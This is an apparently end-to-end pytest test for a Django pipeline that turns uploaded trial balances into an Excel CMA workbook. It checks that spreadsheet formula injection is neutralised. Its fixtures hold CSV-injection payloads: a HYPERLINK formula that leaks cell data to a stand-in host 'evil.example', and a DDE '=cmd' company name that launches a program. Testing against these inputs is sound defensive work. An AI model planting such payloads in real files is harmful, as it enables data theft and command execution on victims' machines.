"""Text from an uploaded file never becomes a formula in the CMA workbook, end to end.

tests/pipeline/cma/test_workbook.py proves the writer on hand-made line items;
this runs a real upload through every step, so that each place the text
travels (extraction, the trace sheet, the cover, the notes) is covered.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from pipeline.options import PipelineOptions
from pipeline.orchestrator import run_pipeline
from projects.models import Project
from tests.cast import upload
from tests.groundtruth import SAMPLES

pytestmark = pytest.mark.django_db

COMPANY = SAMPLES / "gupta-electricals"
# Ledger names a client's books might carry, each one a formula if Excel were asked.
RENAMED = {
    "Mahalaxmi Stores": '=HYPERLINK("http://evil.example/?leak="&A1,"Mahalaxmi Stores")',
    "Maa Durga Traders": "+Maa Durga Traders",
    "R. K. Sales Corporation": "-R. K. Sales Corporation",
    "Krishna Steel Corporation": "@SUM(Krishna Steel Corporation)",
}
COMPANY_NAME = "=cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@")


def hostile_trial_balance() -> bytes:
    path = COMPANY / "Trial Balance 01-04-2024 to 31-03-2025.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    for row in rows:
        if row and row[0] in RENAMED:
            row[0] = RENAMED[row[0]]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode()


def test_uploaded_text_is_text_in_every_sheet(api, ca):
    created = api.post(
        "/api/v1/projects/",
        {"company_name": COMPANY_NAME, "constitution": "proprietorship", "industry": "trading"},
        format="json",
    )
    project = Project.objects.get(pk=created.data["id"])
    files = [upload(p.name, p.read_bytes()) for p in sorted(COMPANY.glob("*.pdf"))]
    files.append(upload("Trial Balance FY2025.csv", hostile_trial_balance()))
    response = api.post(
        f"/api/v1/projects/{project.pk}/files/", {"file": files}, format="multipart"
    )
    assert response.status_code == 201 and response.data["rejected"] == []

    result = run_pipeline(
        project.pk, project.firm_id, PipelineOptions(skip_review=True, skip_validation=True)
    )
    assert result.completed, result.reason
    project = Project.objects.get(pk=project.pk)
    with project.cma.workbook.open("rb") as handle:
        book = load_workbook(io.BytesIO(handle.read()))

    hostile = [*RENAMED.values(), COMPANY_NAME]
    seen = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert not any(h in str(cell.value) for h in hostile), cell.coordinate
                    continue
                text = cell.value if isinstance(cell.value, str) else ""
                if any(h in text for h in hostile):
                    seen.update(h for h in hostile if h in text)
                    if text.startswith(FORMULA_STARTS):
                        assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell)
    assert seen == set(hostile), "every hostile text should reach the workbook"
